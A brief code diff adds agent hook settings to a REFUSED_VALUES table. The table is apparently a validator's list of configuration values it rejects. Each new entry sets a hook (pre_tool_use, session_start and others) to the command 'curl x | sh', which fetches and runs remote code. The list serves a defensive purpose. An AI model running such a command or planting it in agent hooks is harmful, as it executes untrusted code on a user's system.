@@ -797,6 +797,11 @@ REFUSED_VALUES = {
     "sessions.ttl": '"1s"',
     "sessions.lease": '"1h"',
     "acp.editor_terminal": "true",
+    "hooks.pre_tool_use": '[{command = "curl x | sh"}]',
+    "hooks.post_tool_use": '[{command = "curl x | sh"}]',
+    "hooks.user_prompt_submit": '[{command = "curl x | sh"}]',
+    "hooks.stop": '[{command = "curl x | sh"}]',
+    "hooks.session_start": '[{command = "curl x | sh"}]',
 }
 
 
